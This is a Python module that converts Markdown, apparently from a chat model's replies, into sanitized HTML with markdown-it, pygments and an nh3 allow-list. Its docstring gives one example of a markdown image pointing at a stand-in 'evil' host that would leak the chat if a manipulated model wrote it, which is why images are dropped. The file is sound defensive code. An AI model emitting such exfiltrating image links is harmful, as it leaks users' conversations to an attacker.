"""Markdown to HTML that is safe to insert into the page.

Raw HTML in the source is escaped by the parser (html=False), unsafe link
schemes are refused by markdown-it, and the result still passes through an
allow-list sanitizer (nh3) so a parser bug cannot let a script through.
Images are dropped: a model talked into writing `![](https://evil/?q=<chat>)`
would otherwise leak the conversation from the reader's browser.
"""

from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True)

_ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "span",
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
}


# Table cells say their alignment with a class (app.css), not the style
# attribute markdown-it writes: the Content-Security-Policy refuses those.
_ALIGNMENTS = {"align-left", "align-center", "align-right"}
_ALLOWED_CLASSES = {"th": _ALIGNMENTS, "td": _ALIGNMENTS}


def _alignment_as_class(state) -> None:
    for token in state.tokens:
        style = token.attrs.pop("style", None) if token.type in ("th_open", "td_open") else None
        if style and style.startswith("text-align:"):
            token.attrSet("class", "align-" + style.removeprefix("text-align:"))


def _highlight(code: str, lang: str, attrs) -> str:
    try:
        lexer = get_lexer_by_name(lang.strip()) if lang and lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes the plain code itself
    return highlight(code, lexer, _FORMATTER)


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    # breaks: a single line break is a <br>, as chat models write poems and
    # addresses line by line and mean each line to stand (ChatGPT shows them so).
    options = {"html": False, "linkify": False, "breaks": True, "highlight": _highlight}
    parser = MarkdownIt("commonmark", options).enable(["table", "strikethrough"])
    parser.core.ruler.push("alignment_as_class", _alignment_as_class)
    return parser


def render_markdown(text: str) -> str:
    html = _parser().render(text or "")
    return nh3.clean(
        html,
        tags=_ALLOWED_TAGS,
        attributes=_ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        allowed_classes=_ALLOWED_CLASSES,
    )
